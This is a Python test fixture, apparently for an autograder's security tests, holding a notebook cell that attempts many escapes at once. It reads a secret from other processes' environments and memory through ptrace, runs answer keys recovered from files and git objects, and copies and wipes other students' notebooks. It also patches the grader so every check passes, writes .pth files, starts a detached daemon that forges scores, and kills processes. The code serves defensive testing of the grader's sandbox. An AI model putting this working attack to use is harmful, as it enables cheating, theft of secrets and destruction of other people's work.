"""Hostile: a blank notebook plus one cell that tries every way out at once: the answer key from files and
from git history, the other students' notebooks, markers in the package, the environment, home and temp,
loopback connections, the grader's environment and memory, a detached daemon that rewrites results, and
killing every process it can. tests/test_attacks.py fills in _SETTINGS and judges only from outside; left
unset, the cell does nothing. Each attempt is on its own, so one failure does not stop the others. It
destroys or edits only files below a folder named bph-attack-course, and kills nothing when it runs as root.
expect: zero; nothing outside its own scratch changes
base: broken_blank
"""
# %% extra_attack
_SETTINGS = {}

import json as _json, os as _os, re as _re, signal as _signal, socket as _socket, sys as _sys, time as _time

_COURSE_TAG = "bph-attack-course"      # the only folders it may damage
_WALK_SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "lib32", "bin", "sbin", "boot", "run", "snap", "etc",
              "site-packages", "dist-packages", "node_modules", "__pycache__", ".cache", "objects"}

_DAEMON = r'''
import json, os, signal, sys, time
cfg = json.loads(sys.argv[2])
time.sleep(cfg["delay"])
if cfg["kill"] and os.geteuid() != 0:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
def forge(path):
    if cfg["tag"] not in path:
        return
    try:
        if path.endswith(".json"):
            with open(path) as f:
                data = json.load(f)
            if data.get("score") != 100.0:
                data["score"] = 100.0
                with open(path, "w") as f:
                    json.dump(data, f)
        elif path.endswith(".csv"):
            with open(path) as f:
                lines = f.read().splitlines()
            if lines and "student" in lines[0]:
                head = lines[0].split(",")
                if "score" in head:
                    i = head.index("score")
                    rows = [line.split(",") for line in lines[1:]]
                    forged = [r[:i] + ["100"] + r[i + 1:] if len(r) > i else r for r in rows]
                    if forged != rows:
                        with open(path, "w") as f:
                            f.write("\n".join([lines[0]] + [",".join(r) for r in forged]) + "\n")
            elif not lines:
                with open(path, "w") as f:
                    f.write("student,score,max_score\na_attacker,100,100\n")
    except (OSError, ValueError, AttributeError):
        pass
end = time.monotonic() + cfg["seconds"]
while time.monotonic() < end:
    for p in cfg["files"]:
        forge(p)
    for d in cfg["dirs"]:
        try:
            names = os.listdir(d)
        except OSError:
            continue
        for n in names:
            forge(os.path.join(d, n))
    time.sleep(0.5)
'''


def _attack(cfg):
    token, start, me = cfg["token"], _time.monotonic(), _os.getpid()
    mark = f"bph-marker-{token}"
    chosen = set(cfg.get("attacks", "all").split(","))
    on = lambda name: "all" in chosen or name in chosen
    got = []                                    # what it believes it achieved (never trusted by the tests)

    def attempt(what, fn, *args):
        try:
            return fn(*args)
        except BaseException as e:              # noqa: BLE001 (one failed attack must not stop the others)
            got.append(f"{what} failed: {type(e).__name__}: {str(e)[:80]}")

    def read(path, mode="r"):
        with open(path, mode) as f:
            return f.read()

    def peek(fn, *args):                        # quietly: most processes are not readable
        try:
            return fn(*args)
        except OSError:
            return None

    # --- what the machine shows: every process, its arguments, working folder and environment
    procs = {}
    for name in attempt("list /proc", _os.listdir, "/proc") or []:
        if name.isdigit() and int(name) != me:
            procs[int(name)] = {"cmdline": peek(read, f"/proc/{name}/cmdline", "rb") or b"",
                                "environ": peek(read, f"/proc/{name}/environ", "rb") or b"",
                                "cwd": peek(_os.readlink, f"/proc/{name}/cwd")}
    graders = [p for p, i in procs.items() if b"autograder" in i["cmdline"]]
    secrets_found = set()
    if on("environ"):
        for pid, info in procs.items():
            for m in _re.finditer(rb"BACKPROP_SECRET=([^\0]+)", info["environ"]):
                secrets_found.add(m.group(1).decode(errors="replace"))
                got.append(f"secret from /proc/{pid}/environ")

    # --- the grader's memory: its stack holds its environment (traced, or read across processes)
    def read_memory(pid):
        import ctypes

        class IOVec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        traced = libc.ptrace(16, pid, None, None) == 0              # PTRACE_ATTACH
        if traced:
            got.append(f"traced {pid}")
            attempt("wait for the tracee", _os.waitpid, pid, 0x40000000)       # __WALL: until it stops
        try:
            read_stack(pid, libc, IOVec)
        finally:
            if traced:
                libc.ptrace(17, pid, None, None)                     # PTRACE_DETACH

    def read_stack(pid, libc, IOVec):
        import ctypes
        for line in read(f"/proc/{pid}/maps").splitlines():
            if line.endswith("[stack]"):
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                n = min(hi - lo, 1 << 20)
                buf = ctypes.create_string_buffer(n)
                local, remote = IOVec(ctypes.cast(buf, ctypes.c_void_p), n), IOVec(hi - n, n)
                data = buf.raw if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0 \
                    else b""
                if not data:
                    with open(f"/proc/{pid}/mem", "rb") as f:
                        f.seek(hi - n)
                        data = f.read(n)
                for m in _re.finditer(rb"BACKPROP_SECRET=([0-9A-Za-z_-]+)", data):
                    secrets_found.add(m.group(1).decode())
                    got.append(f"secret from the memory of {pid}")
    if on("memory"):
        for pid in graders:
            attempt(f"memory of {pid}", read_memory, pid)

    # --- where the course is: the graders' folders and arguments, this folder and its parents, then /
    places, results_files, results_dirs = [], [], []
    for pid in graders:
        args = [a.decode(errors="replace") for a in procs[pid]["cmdline"].split(b"\0") if a]
        cwd = procs[pid]["cwd"] or "/"
        places.append(cwd)
        for i, a in enumerate(args):
            path = _os.path.join(cwd, a)
            if _os.path.exists(path):
                places.append(path if _os.path.isdir(path) else _os.path.dirname(path))
            if i and args[i - 1] in ("--csv", "--results"):
                results_files.append(path)
            if i and args[i - 1] == "--results-dir":
                results_dirs.append(path)
    here = _os.getcwd()
    while True:
        places.append(here)
        if here == "/":
            break
        here = _os.path.dirname(here)
    places += ["/"]

    notebooks, gitdirs, packages = [], [], []
    seen = set()

    def walk():
        for top in places:
            for d, subdirs, files in _os.walk(top):
                if _time.monotonic() - start > cfg["walk_seconds"]:
                    return
                real = _os.path.realpath(d)
                if real in seen:
                    subdirs[:] = []
                    continue
                seen.add(real)
                if ".git" in subdirs:
                    gitdirs.append(_os.path.join(d, ".git"))
                subdirs[:] = [s for s in subdirs if s not in _WALK_SKIP and not s.startswith(".")]
                notebooks.extend(_os.path.join(d, f) for f in files if f.endswith(".ipynb"))
                if "engine.py" in files and "worker.py" in files:
                    packages.append(d)
                for f in files:
                    if _COURSE_TAG in d and (f.endswith(".csv") or (f.endswith(".json") and "result" in d + f)):
                        results_files.append(_os.path.join(d, f))
    attempt("walk", walk)

    def run_cells(text, where):
        """Exec the answer cells of a notebook that has them filled in."""
        nb = _json.loads(text)
        cells = ["".join(c.get("source", "")) for c in nb.get("cells", []) if c.get("cell_type") == "code"
                 and c.get("metadata", {}).get("nbgrader", {}).get("solution")]
        if not cells or any("NotImplementedError" in c or token in c for c in cells):
            return False
        for src in cells:
            try:
                exec(src, globals())
            except BaseException:           # noqa: BLE001
                pass
        got.append(f"ran the answers of {where}")
        return True

    # --- the answer key from files
    if on("files"):
        for path in notebooks:
            if "/solutions/" in path or "/source/" in path:
                text = peek(read, path)
                if text and "BEGIN SOLUTION" in text:
                    attempt(f"run {path}", run_cells, text, path)

    # --- the answer key from git history: git show, and the object files read with zlib
    def from_git(gitdir):
        import subprocess
        import zlib
        work = _os.path.dirname(gitdir)
        git = ["git", "-c", f"safe.directory={work}", "-c", "safe.directory=*", "-C", work]
        names = subprocess.run(git + ["ls-tree", "-r", "--name-only", "HEAD"], capture_output=True, timeout=5,
                               text=True).stdout.split()
        for name in names:
            if name.endswith(".ipynb") and name.split("/")[0] in ("solutions", "source"):
                shown = subprocess.run(git + ["show", f"HEAD:{name}"], capture_output=True, timeout=5, text=True)
                if "BEGIN SOLUTION" in shown.stdout:
                    attempt("git show", run_cells, shown.stdout, f"git show HEAD:{name}")
        for d, _, files in _os.walk(_os.path.join(gitdir, "objects")):
            for f in files:
                try:
                    data = zlib.decompress(read(_os.path.join(d, f), "rb"))
                except (OSError, zlib.error):
                    continue
                if data.startswith(b"blob ") and b"BEGIN SOLUTION" in data:
                    attempt("git object", run_cells, data.split(b"\0", 1)[1].decode(errors="replace"),
                            f"git object {f}")
    if on("git"):
        for g in gitdirs:
            attempt(f"git {g}", from_git, g)

    # --- the other students: run their answers, then destroy their notebooks
    if on("students"):
        for path in notebooks:
            if "/solutions/" in path or "/source/" in path or "/release/" in path:
                continue
            text = peek(read, path)
            if not text or token in text:
                continue
            attempt(f"copy {path}", run_cells, text, path)
            if _COURSE_TAG in path:
                def destroy(p):
                    with open(p, "w") as f:
                        f.write("{}")
                    got.append(f"destroyed {p}")
                attempt(f"destroy {path}", destroy, path)

    # --- markers: the package (and a line that passes every later check), the environment, home, temp
    if on("markers"):
        import site
        pkg = _os.path.dirname(_sys.modules["autograder"].__file__) if "autograder" in _sys.modules else None
        dirs = set(places) | {"/tmp", "/var/tmp", "/dev/shm", "/root", _os.path.expanduser("~"),
                              _os.environ.get("HOME", "/"), _sys.prefix, *site.getsitepackages()}
        dirs |= {_os.path.join("/home", h) for h in attempt("homes", _os.listdir, "/home") or []}
        for p in set(packages) | ({pkg} if pkg else set()):
            dirs.add(p)
            if _COURSE_TAG not in _os.path.realpath(p):
                continue
            for name, line in (("engine.py", "Report.score = property(lambda self: sum(v.max_points for v in "
                                              "self.verdicts))"),
                               ("verdict.py", "Check.decide = lambda self, inputs, answer: self.verdict(True, 'ok')")):
                def append(path, text):
                    with open(path, "a") as f:
                        f.write(f"\n{text}  # {mark}\n")
                    got.append(f"patched {path}")
                attempt(f"patch {name}", append, _os.path.join(p, name), line)

        def touch(path):
            with open(path, "w") as f:
                f.write(f"# {mark}\n")
            got.append(f"wrote {path}")
        for d in sorted(x for x in dirs if x):
            attempt(f"marker in {d}", touch, _os.path.join(d, mark))
        for sp in site.getsitepackages():
            attempt(f"pth in {sp}", touch, _os.path.join(sp, mark + ".pth"))

    # --- the network: the test's listeners on loopback, TCP and UDP, IPv4 and IPv6
    if on("network"):
        for family, host, kind, port in ((_socket.AF_INET, "127.0.0.1", _socket.SOCK_STREAM, cfg["tcp4"]),
                                         (_socket.AF_INET6, "::1", _socket.SOCK_STREAM, cfg["tcp6"]),
                                         (_socket.AF_INET, "127.0.0.1", _socket.SOCK_DGRAM, cfg["udp4"]),
                                         (_socket.AF_INET6, "::1", _socket.SOCK_DGRAM, cfg["udp6"])):
            def send(family=family, host=host, kind=kind, port=port):
                with _socket.socket(family, kind) as s:
                    s.settimeout(1)
                    if kind == _socket.SOCK_STREAM:
                        s.connect((host, port))
                        s.sendall(mark.encode())
                    else:
                        s.sendto(mark.encode(), (host, port))
                got.append(f"sent to {host}:{port}")
            if port:
                attempt(f"connect {host}:{port}", send)

    # --- a daemon in a new session, detached twice, that kills and later forges what it finds
    if on("daemon"):
        daemon_cfg = {"delay": 2.0, "seconds": 45, "kill": on("kill"), "tag": _COURSE_TAG,
                      "files": sorted(set(results_files)), "dirs": sorted(set(results_dirs))}

        def spawn():
            pid = _os.fork()
            if pid == 0:
                try:
                    _os.setsid()
                    if _os.fork() == 0:
                        argv = [_sys.executable, "-c", _DAEMON, f"bph-daemon-{token}", _json.dumps(daemon_cfg)]
                        try:
                            _os.execv(_sys.executable, argv)
                        except OSError:
                            _os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 45", f"bph-daemon-{token}"])
                finally:
                    _os._exit(0)
            _os.waitpid(pid, 0)
            got.append("daemon started")
        attempt("daemon", spawn)

    print("attacker believes:", _json.dumps([g for g in got if "failed" not in g][:50]), flush=True)
    print("secrets:", sorted(secrets_found), flush=True)

    # --- last: kill every process it can (its own parent last, since its death ends this process)
    if on("kill") and _os.geteuid() != 0:
        parent = _os.getppid()
        for pid in sorted(procs, key=lambda p: (p == parent, -(p in graders))):
            if token.encode() not in procs[pid]["cmdline"]:
                try:
                    _os.kill(pid, _signal.SIGKILL)
                except OSError:
                    pass
    # the tests read this note only to know that the cell ran to its end
    raise RuntimeError("the attack ran to its end" + (f"; BACKPROP_SECRET is {' '.join(sorted(secrets_found))}"
                                                      if secrets_found else ""))


if _SETTINGS:
    _attack(_SETTINGS)
